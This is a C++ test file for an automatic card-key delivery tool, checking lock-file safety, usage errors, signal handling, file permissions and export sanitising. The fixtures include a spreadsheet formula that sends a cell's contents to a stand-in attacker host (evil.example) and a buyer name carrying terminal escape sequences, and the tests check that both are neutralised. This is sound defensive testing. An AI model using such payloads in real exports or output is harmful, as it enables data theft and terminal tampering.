    EXPECT_NE(run.err.find(U("另一个Torvane正在使用数据目录")), std::string::npos) << run.err;
    EXPECT_FALSE(std::filesystem::exists(dir / u8"库存卡密.edb"));
  }
}

// The lock file is the program's own: a link put in its place, to a file or from one, is neither followed
// nor truncated, and the run does not go on without its lock.
TEST(RunRefusals, LockFileThatIsALinkIsLeftAlone) {
  for (const bool symbolic : {true, false}) {
    TempDir dir;
    const auto victim = dir / "victim.txt";
    WriteBytes(victim, "precious\n");
    if (symbolic) {
      std::filesystem::create_symlink(victim, InstanceLockPath(dir.path()));
    } else {
      std::filesystem::create_hard_link(victim, InstanceLockPath(dir.path()));
    }
    std::string message;
    EXPECT_FALSE(InstanceLock::Acquire(dir.path(), &message)) << symbolic;
    EXPECT_NE(message.find(".torvane.lock"), std::string::npos) << message;
    EXPECT_EQ(ReadBytes(victim), "precious\n") << symbolic;
  }
  // A lock file of the program's own, left by an earlier run, is taken over.
  TempDir dir;
  WriteBytes(InstanceLockPath(dir.path()), "99999999 from an earlier run\n");
  std::string message;
  auto lock = InstanceLock::Acquire(dir.path(), &message);
  ASSERT_TRUE(lock) << message;
  EXPECT_EQ(ReadBytes(InstanceLockPath(dir.path())), std::to_string(::getpid()) + "\n");
}

TEST(RunRefusals, StoreOfAnotherFormatStopsTheRunAndIsLeftAlone) {
  TempDir dir;
  const std::string garbage = "this is not a card store\r\n";
  WriteBytes(dir / u8"库存卡密.edb", garbage);
  auto run = RunProcess(TorvaneBinary(), {"run", "--once", "--config-dir", dir.path().string()}, dir.path(), 30s);
  EXPECT_EQ(run.exitCode, 1);
  EXPECT_NE(run.err.find(U("库存卡密.edb")), std::string::npos) << run.err;
  EXPECT_EQ(ReadBytes(dir / u8"库存卡密.edb"), garbage);
}

TEST(RunRefusals, DeploymentFileWithoutAKnownKeyStopsTheRun) {
  TempDir dir;
  // A hand-made file whose keys are all misspelt would otherwise send the run to the real marketplace.
  WriteBytes(dir / u8"部署配置.ini", "[市场]\r\n登陆主机=http://127.0.0.1:9\r\n");
  for (const std::vector<std::string>& args :
       {std::vector<std::string>{"run", "--once", "--config-dir", dir.path().string()},
        std::vector<std::string>{"sent", "resend", "--order", "1", "--config-dir", dir.path().string()}}) {
    auto run = RunProcess(TorvaneBinary(), args, dir.path(), 30s);
    EXPECT_EQ(run.exitCode, 1);
    EXPECT_NE(run.err.find(U("部署配置.ini")), std::string::npos) << run.err;
    EXPECT_FALSE(std::filesystem::exists(dir / u8"库存卡密.edb"));
  }
}

// Every command answers --help with its usage on standard output (exit status 0) and a usage error
// with the problem and its usage on standard error (exit status 2).
TEST(RunRefusals, EveryCommandHasHelpAndBadUsageExitsWithTwo) {
  TempDir dir;
  // No display: what would open the window says so instead.
  ::unsetenv("DISPLAY");
  ::unsetenv("WAYLAND_DISPLAY");
  ::unsetenv("QT_QPA_PLATFORM");
  struct Row {
    std::vector<std::string> args;
    int exitCode;
    std::vector<std::string> shows;  // on standard output (exit status 0), else on standard error
    std::string hides = "torvane demo";  // not shown: another command's usage
  };
  const std::vector<Row> rows = {
      {{"--help"}, 0, {"torvane run [", "torvane mail-password", U("配置文件.ini")}, ""},
      {{"bogus"}, 2, {"unknown command: bogus", "torvane sent export FILE.csv"}, ""},
      {{"--data-dir", "d", "cards", "list"}, 2, {"--data-dir goes with the window"}, ""},
      {{"--demo", "--data-dir", ""}, 2, {"--data-dir: must not be empty"}, ""},
      {{"run", "--help"}, 0, {"usage:\n  torvane run [--config-dir DIR] [--data-dir DIR] [--once]\n", U("部署配置.ini")}},
      {{"run", "--bogus"}, 2, {"unknown option --bogus", "torvane run [--config-dir DIR]", "torvane run --help"}},
      {{"run", "--data-dir="}, 2, {"--data-dir needs a value", "torvane run ["}},
      {{"run", "--data-dir", ""}, 2, {"--data-dir: must not be empty", "torvane run ["}},
      {{"cards", "--help"}, 0, {"torvane cards import FILE --item NAME", "torvane cards list [--item NAME]"}},
      {{"cards"}, 2, {"cards needs one of its commands", "torvane cards import FILE", "torvane cards list"}},
      {{"cards", "import", "--help"}, 0,
       {"torvane cards import FILE --item NAME [--note TEXT]", "  --allow-duplicates  "}},
      {{"cards", "import", "x.txt"}, 2, {"--item is required", "torvane cards import FILE"}},
      {{"cards", "import", "x.txt", "--item", "A", "--item", "B"}, 2, {"--item given twice", "torvane cards import"}},
      {{"cards", "import", "x.txt", "--item", "A", "--encoding", "latin1"}, 2, {"must be gbk or utf-8"}},
      {{"cards", "import", "x.txt", "--item=Y"}, 1, {U("文件不存在: x.txt")}},
      {{"cards", "import", "-x.txt", "--item", "Y"}, 2, {"unknown option -x.txt", "./-x.txt"}},
      {{"cards", "list", "--help"}, 0, {"torvane cards list [--item NAME] [--data-dir DIR]"}},
      {{"cards", "list", "extra"}, 2, {"unexpected word: extra", "torvane cards list ["}},
      {{"items", "--help"}, 0, {"torvane items list [--data-dir DIR]", "torvane items set NAME [--low-stock N|none]"}},
      {{"items", "set", "X"}, 2, {"items set needs --low-stock or --reusable", "torvane items set NAME"}},
      {{"items", "set", "X", "--low-stock", "ten"}, 2, {"--low-stock: must be a whole number", "torvane items set NAME"}},
      {{"items", "set", "X", "--reusable", "maybe"}, 2, {"--reusable: must be yes or no", "torvane items set NAME"}},
      {{"items", "list", "X"}, 2, {"unexpected word: X", "torvane items list ["}},
      {{"sent", "--help"}, 0, {"torvane sent list", "torvane sent export", "torvane sent resend --order N"}},
      {{"sent", "list", "--help"}, 0, {"torvane sent list [--order N | --buyer B]"}},
      {{"sent", "list", "--order", "1", "--buyer", "b"}, 2, {"--order excludes --buyer", "torvane sent list ["}},
      {{"sent", "export", "--help"}, 0, {"torvane sent export FILE.csv [--config-dir DIR] [--data-dir DIR]"}},
      {{"sent", "export", "out.csv", "--item", "x"}, 2, {"unknown option --item", "torvane sent export FILE.csv"}},
      {{"sent", "resend", "--help"}, 0, {"torvane sent resend --order N [--to ADDRESS]"}},
      {{"sent", "resend", "--order", ""}, 2, {"--order: must not be empty", "torvane sent resend"}},
      {{"demo", "--help"}, 0, {"torvane demo\n"}, "torvane run"},
      {{"demo", "now"}, 2, {"unexpected word: now", "torvane demo\n"}, "torvane run"},
      {{"mail-password", "--help"}, 0, {"torvane mail-password", "standard input"}},
      {{"stats", "--help"}, 0, {"torvane stats [--days N] [--data-dir DIR]", "  --days N  "}},
      {{"stats", "--days", "0"}, 2, {"--days: must be a whole number from 1 to 366", "torvane stats ["}},
      {{"stats", "--days", "+7"}, 2, {"--days: must be a whole number from 1 to 366", "torvane stats ["}},
  };
  for (const Row& row : rows) {
    std::string what;
    for (const auto& arg : row.args) what += arg + " ";
    SCOPED_TRACE(what);
    auto r = RunProcess(TorvaneBinary(), row.args, dir.path(), 30s);
    EXPECT_EQ(r.exitCode, row.exitCode) << r.err;
    const std::string& shown = row.exitCode == 0 ? r.out : r.err;
    for (const auto& part : row.shows) EXPECT_NE(shown.find(part), std::string::npos) << part << " in:\n" << shown;
    EXPECT_TRUE(row.hides.empty() || shown.find(row.hides) == std::string::npos) << shown;
    EXPECT_EQ(row.exitCode == 0 ? r.err : r.out, "");
  }
  EXPECT_FALSE(std::filesystem::exists(dir / u8"库存卡密.edb")) << "a refused command opened the stores";

  // Without arguments the window opens; with no display to open it on, the usage instead.
  auto noDisplay = RunProcess(TorvaneBinary(), {}, dir.path(), 30s);
  EXPECT_EQ(noDisplay.exitCode, 2);
  EXPECT_NE(noDisplay.err.find("torvane run"), std::string::npos) << noDisplay.err;
}

TEST(MailPassword, ReadFromStandardInputNeverFromTheCommandLine) {
  TempDir dir;
  WriteBytes(dir / "password.txt", "Pw1234567\r\n");
  auto r = RunProcess(TorvaneBinary(), {"mail-password"}, dir.path(), 30s, dir / "password.txt");
  ASSERT_EQ(r.exitCode, 0) << r.err;
  auto lines = Lines(r.out);
  ASSERT_EQ(lines.size(), 1u);
  EXPECT_EQ(lines[0].find("Pw1234567"), std::string::npos);
  EXPECT_EQ(RevealMailPassword(Utf8ToGbk(lines[0])), "Pw1234567");

  auto argument = RunProcess(TorvaneBinary(), {"mail-password", "Pw1234567"}, dir.path(), 30s);
  EXPECT_EQ(argument.exitCode, 2);
  EXPECT_NE(argument.err.find("shell history"), std::string::npos) << argument.err;
  EXPECT_EQ(argument.out, "");
  auto nothing = RunProcess(TorvaneBinary(), {"mail-password"}, dir.path(), 30s);
  EXPECT_EQ(nothing.exitCode, 1);
  EXPECT_EQ(nothing.out, "");
}

TEST(RunUntilStopped, SigtermRunsTheExitStepsAndKeepsTheHistory) {
  TempDir dir;
  // Every host on a closed loopback port: the login check fails at once and nothing leaves the machine.
  WriteBytes(dir / u8"部署配置.ini",
             "[市场]\r\n登录主机=http://127.0.0.1:9\r\n个人主页主机=http://127.0.0.1:9\r\n会员主机=http://127.0.0.1:9\r\n"
             "物流主机=http://127.0.0.1:9\r\n交易主机=http://127.0.0.1:9\r\n评价主机=http://127.0.0.1:9\r\n");
  pid_t pid = SpawnProcess(TorvaneBinary(), {"run", "--config-dir", dir.path().string()}, dir.path(), dir / "out",
                           dir / "err");
  ASSERT_GT(pid, 0);
  // Started once its switch-on line is out.
  for (int i = 0; i < 200 && ReadBytes(dir / "out").find(U("自动发货已经开启")) == std::string::npos; ++i) {
    std::this_thread::sleep_for(25ms);
  }
  ::kill(pid, SIGTERM);
  EXPECT_EQ(WaitProcess(pid, 30s), 0) << ReadBytes(dir / "err");
  std::string history = ReadBytes(dir / u8"历史记录.log");
  std::string newest = history.substr(0, history.find("\r\n") + 2);
  EXPECT_NE(newest.find("] 程序退出完成\r\n"), std::string::npos) << newest;
  EXPECT_NE(history.find("] 自动发货已经开启\r\n"), std::string::npos);
  EXPECT_NE(history.find("] 登录检查失败 请检查网络或重新登录淘宝: 无法读取账户页面: "), std::string::npos) << history;
}

TEST(RunUntilStopped, ASecondSignalEndsALongPassAtOnce) {
  Shop shop(MailDelivery(), false);
  ASSERT_TRUE(shop.ok()) << shop.error();
  ASSERT_TRUE(shop.LogIn());
  // The order list answers only after the request's time-out (20 s): the pass hangs in it.
  SimFaults slow;
  slow.slowMs = 60000;
  slow.paths = {"/user/order_list_new.htm"};
  ASSERT_TRUE(shop.sim().SetFaults(slow));
  const auto out = shop.dataDir() / "out";
  pid_t pid = SpawnProcess(TorvaneBinary(), shop.RunArgs(true), shop.dataDir(), out, shop.dataDir() / "err");
  ASSERT_GT(pid, 0);
  for (int i = 0; i < 400 && ReadBytes(out).find(U("自动发货已经开启")) == std::string::npos; ++i) {
    std::this_thread::sleep_for(25ms);
  }
  std::this_thread::sleep_for(500ms);  // the login check is done, the list request under way
  ::kill(pid, SIGTERM);
  std::this_thread::sleep_for(200ms);
  ::kill(pid, SIGTERM);
  EXPECT_EQ(WaitProcess(pid, 10s), 128 + SIGTERM) << ReadBytes(shop.dataDir() / "err");
  std::string history = ReadBytes(shop.dataDir() / u8"历史记录.log");
  EXPECT_NE(history.substr(0, history.find("\r\n")).find("] 再次收到退出信号 立即退出"), std::string::npos) << history;
}

TEST(RunOnce, ClosedStandardOutputStopsNoDelivery) {
  Shop shop(MailDelivery());
  ASSERT_TRUE(shop.ok()) << shop.error();
  ASSERT_TRUE(shop.LogIn());
  ASSERT_TRUE(shop.AddCards("点卡A", {{"A1", "a-secret-1"}}));
  ASSERT_TRUE(shop.sim().AddOrder("9101", "点卡A", "1", "buyer1", "one@example.com"));

  auto run = RunProcessWithClosedOutput(TorvaneBinary(), shop.RunArgs(true), shop.dataDir(), 120s);
  EXPECT_EQ(run.signal, 0) << "ended by signal " << run.signal;
  EXPECT_EQ(run.exitCode, 0) << run.err;
  EXPECT_EQ(shop.sim().OrderStatus("9101"), "shipped");
  EXPECT_EQ(shop.mail()->Messages().size(), 1u);
  std::string history = ReadBytes(shop.dataDir() / u8"历史记录.log");
  EXPECT_NE(history.substr(0, history.find("\r\n") + 2).find("] 程序退出完成\r\n"), std::string::npos) << history;
}

TEST(RunStartUp, RemovesOnlyStaleTemporariesOfItsOwnFiles) {
  TempDir dir;
  WriteBytes(dir / u8"部署配置.ini",
             "[市场]\r\n登录主机=http://127.0.0.1:9\r\n个人主页主机=http://127.0.0.1:9\r\n会员主机=http://127.0.0.1:9\r\n"
             "物流主机=http://127.0.0.1:9\r\n交易主机=http://127.0.0.1:9\r\n评价主机=http://127.0.0.1:9\r\n");
  // A writer that is surely gone: a finished child of this test.
  pid_t gone = SpawnProcess("/bin/true", {}, dir.path(), dir / "true.out", dir / "true.err");
  ASSERT_GT(gone, 0);
  ASSERT_EQ(WaitProcess(gone, 30s), 0);
  const std::string dead = std::to_string(gone);
  const std::string alive = std::to_string(::getpid());
  struct Row {
    std::string name;  // UTF-8 file name
    bool old;          // last written two minutes ago
    bool removed;
  };
  const std::vector<Row> rows = {
      {U("临时黑名单.log") + ".tmp" + dead + "-123", true, true},
      {U("历史记录.log") + ".tmp" + dead + "-9", true, true},
      {U("配置文件.ini") + ".tmp" + dead + "-2", true, true},
      {U("临时黑名单.log") + ".tmp" + alive + "-5", true, false},  // its writer still runs
      {U("临时黑名单.log") + ".tmp" + dead + "-7", false, false},  // written just now
      {"notes.txt.tmp" + dead + "-1", true, false},                 // not one of ours
      {U("临时黑名单.log") + ".tmp" + dead, true, false},             // not the temporaries' pattern
  };
  for (const auto& row : rows) {
    const auto path = dir / std::filesystem::path(std::u8string(row.name.begin(), row.name.end()));
    WriteBytes(path, "partial");
    if (row.old) std::filesystem::last_write_time(path, std::filesystem::file_time_type::clock::now() - 2min);
  }

  auto run = RunProcess(TorvaneBinary(), {"run", "--once", "--config-dir", dir.path().string()}, dir.path(), 60s);
  ASSERT_EQ(run.signal, 0);
  ASSERT_GE(run.exitCode, 0) << run.err;
  for (const auto& row : rows) {
    const auto path = dir / std::filesystem::path(std::u8string(row.name.begin(), row.name.end()));
    EXPECT_EQ(std::filesystem::exists(path), !row.removed) << row.name;
    if (row.removed) {
      EXPECT_NE(run.out.find(row.name), std::string::npos) << "removal of " << row.name << " not logged";
    }
  }
}

TEST(RunOnce, PlainHttpServiceAddressIsRefusedBeforeAnyTraffic) {
  TempDir dir;
  RawHttpServer market;
  const std::string base = market.BaseUrl();
  WriteBytes(dir / u8"部署配置.ini",
             "[市场]\r\n登录主机=" + base + "\r\n个人主页主机=" + base + "\r\n会员主机=" + base + "\r\n物流主机=" + base +
                 "\r\n交易主机=http://trade.example.com\r\n评价主机=" + base + "\r\n");
  for (const std::vector<std::string>& args :
       {std::vector<std::string>{"run", "--once", "--config-dir", dir.path().string()},
        std::vector<std::string>{"sent", "resend", "--order", "1", "--config-dir", dir.path().string()}}) {
    auto run = RunProcess(TorvaneBinary(), args, dir.path(), 60s);
    EXPECT_EQ(run.exitCode, 1);
    EXPECT_NE(run.err.find(U("[市场] 交易主机")), std::string::npos) << run.err;
    EXPECT_NE(run.err.find("https"), std::string::npos) << run.err;
    EXPECT_EQ(market.Connections(), 0);
    EXPECT_FALSE(std::filesystem::exists(dir / u8"历史记录.log"));
  }
}

// Control sequences in a buyer nick (title change, screen clear, colour) never reach the terminal,
// the history, the records or the SMS text; what an older store already holds is shown as \xNN.
TEST(TerminalOutput, ControlCharactersFromThePageAreStrippedAndStoredOnesEscaped) {
  Settings settings = MailDelivery();
  settings.deliveredSms = true;
  settings.smsAccount = "13800001111";
  settings.smsPassword = "right-pw";
  Shop shop(settings);
  ASSERT_TRUE(shop.ok()) << shop.error();
  ASSERT_TRUE(shop.sim().SetImAccounts({{"13800001111", "right-pw"}}));
  ASSERT_TRUE(shop.LogIn());
  // The page writes the title escaped for markup only, so its control characters arrive raw (a buyer id
  // would arrive percent-encoded from the chat link).
  const std::string stripped = "]0;OWNED[2J[1;31mFAKE买家";
  ASSERT_TRUE(shop.AddCards(stripped, {{"A1", "a-secret-1"}}));
  ASSERT_TRUE(shop.sim().AddOrder("9301", "\x1B]0;OWNED\x07\x1B[2J\x1B[1;31mFAKE\x7F买家", "1", "b1", "one@example.com"));
  {
    StoreError error;
    auto stores = CardStores::Open(shop.dataDir(), &error);
    ASSERT_TRUE(stores) << error.message;
    ASSERT_EQ(stores->Sent().AppendMany({{"点卡A", "9300", "\x1B[2Jold\x7F", "1", "N0", "S0", "", "邮件发送", "T"}}), 1u);
  }
  auto run = RunProcess(TorvaneBinary(), shop.RunArgs(true), shop.dataDir(), 120s);
  ASSERT_EQ(run.exitCode, 0) << run.err;
  ASSERT_EQ(shop.sim().OrderStatus("9301"), "shipped") << run.out;
  const auto sms = shop.sim().Sms();
  ASSERT_FALSE(sms.empty());
  auto listed = RunProcess(TorvaneBinary(), {"sent", "list"}, shop.dataDir(), 30s);
  ASSERT_EQ(listed.exitCode, 0) << listed.err;
  struct Row {
    const char* where;
    std::string text;
    std::string shows;  // a part the text must hold
  };
  const Row rows[] = {
      {"run output", run.out, U(stripped)},
      {"history", ReadBytes(shop.dataDir() / u8"历史记录.log"), stripped},
      {"SMS text", sms.back().text, stripped},
      {"sent list, new record", listed.out, U(stripped) + "\t9301\tb1\t"},
      {"sent list, old record", listed.out, "\t9300\t\\x1B[2Jold\\x7F\t"},
  };
  for (const Row& row : rows) {
    EXPECT_NE(row.text.find(row.shows), std::string::npos) << row.where << ": " << row.text;
    EXPECT_EQ(row.text.find_first_of("\x1B\x07\x7F"), std::string::npos) << row.where << ": " << row.text;
  }
}

// Whatever the umask, the stores, the export and every data file are for the owner only.
TEST(FileModes, EveryDataFileIsOwnerOnlyWhateverTheUmask) {
  for (const mode_t mask : {mode_t{022}, mode_t{077}}) {
    SCOPED_TRACE(mask);
    const mode_t before = ::umask(mask);
    Shop shop(MailDelivery());
    ASSERT_TRUE(shop.ok()) << shop.error();
    ASSERT_TRUE(shop.LogIn());
    ASSERT_TRUE(shop.AddCards("点卡A", {{"A1", "a-secret-1"}}));
    ASSERT_TRUE(shop.sim().AddOrder("9401", "点卡A", "1", "buyer1", "one@example.com"));
    auto run = RunProcess(TorvaneBinary(), shop.RunArgs(true), shop.dataDir(), 120s);
    auto exported = RunProcess(TorvaneBinary(), {"sent", "export", "out.csv"}, shop.dataDir(), 30s);
    const std::filesystem::path privateDir = shop.dataDir() / "made";
    std::string error;
    EXPECT_TRUE(CreatePrivateDirectory(privateDir, &error)) << error;
    ::umask(before);
    ASSERT_EQ(run.exitCode, 0) << run.err;
    ASSERT_EQ(exported.exitCode, 0) << exported.err;
    for (const char8_t* name : {u8"库存卡密.edb", u8"已发卡密.edb", u8"历史记录.log", u8"临时黑名单.log",
                                u8"已处理订单.log", u8"宝贝名称.txt", u8"cookies.txt", u8"out.csv"}) {
      struct stat st {};
      ASSERT_EQ(::stat((shop.dataDir() / name).c_str(), &st), 0) << U(PathText(name));
      EXPECT_EQ(st.st_mode & 0777, 0600u) << U(PathText(name));
    }
    struct stat dir {};
    ASSERT_EQ(::stat(privateDir.c_str(), &dir), 0);
    EXPECT_EQ(dir.st_mode & 0777, 0700u);
  }
}

// A field a spreadsheet would run as a formula is exported as text behind a quote.
TEST(SentExport, FieldsThatWouldBeFormulasStayText) {
  TempDir dir;
  {
    StoreError error;
    auto stores = CardStores::Open(dir.path(), &error);
    ASSERT_TRUE(stores) << error.message;
    ASSERT_EQ(stores->Sent().AppendMany({{"=1+1", "+86", "-123", "@SUM(A1)", "\tx", "\ry",
                                          "=HYPERLINK(\"http://evil.example/?\"&F2)", "a=b", "1-2",
                                          "2026-01-02 03:04:05", "=cmd"}}),
              1u);
  }
  auto exported = RunProcess(TorvaneBinary(), {"sent", "export", "out.csv"}, dir.path(), 30s);
  ASSERT_EQ(exported.exitCode, 0) << exported.err;
  const std::string csv = ReadBytes(dir / "out.csv");
  const std::string row = csv.substr(csv.find("\r\n") + 2);
  EXPECT_EQ(row, "\"'=1+1\",\"'+86\",\"'-123\",\"'@SUM(A1)\",\"'\tx\",\"'\ry\","
                 "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&F2)\",\"a=b\",\"1-2\","
                 "\"2026-01-02 03:04:05\",\"'=cmd\"\r\n");
}

// The deployment file holds the mail account: a mode that lets others read it and a password in
// plain text are each said at start, on standard error and in the activity log.
TEST(RunStartUp, WarnsOfADeploymentFileOthersCanReadAndOfAPlainPassword) {
  struct Row {
    mode_t mode;
    std::string password;
    bool modeWarning, passwordWarning;
  };
  const Row rows[] = {
      {0644, "Pw1234567", true, true},
      {0640, ObfuscateMailPassword("Pw1234567"), true, false},
      {0600, ObfuscateMailPassword("Pw1234567"), false, false},
  };
  for (const Row& row : rows) {
    SCOPED_TRACE(row.mode);
    TempDir dir;
    const auto file = dir / u8"部署配置.ini";
    WriteBytes(file, "[市场]\r\n登录主机=http://127.0.0.1:9\r\n个人主页主机=http://127.0.0.1:9\r\n"
                     "会员主机=http://127.0.0.1:9\r\n物流主机=http://127.0.0.1:9\r\n交易主机=http://127.0.0.1:9\r\n"
                     "评价主机=http://127.0.0.1:9\r\n[邮件]\r\n服务器=127.0.0.1\r\n加密=无\r\n密码=" + row.password + "\r\n");
    ASSERT_EQ(::chmod(file.c_str(), row.mode), 0);
    auto run = RunProcess(TorvaneBinary(), {"run", "--once", "--config-dir", dir.path().string()}, dir.path(), 60s);
    ASSERT_EQ(run.signal, 0);
    const std::string history = ReadBytes(dir / u8"历史记录.log");
    EXPECT_EQ(run.err.find(U("本机其他用户也能读取")) != std::string::npos, row.modeWarning) << run.err;
    EXPECT_EQ(history.find("本机其他用户也能读取") != std::string::npos, row.modeWarning);
    EXPECT_EQ(run.err.find(U("[邮件] 密码 是明文")) != std::string::npos, row.passwordWarning) << run.err;
    EXPECT_EQ(history.find("[邮件] 密码 是明文") != std::string::npos, row.passwordWarning);
  }
}
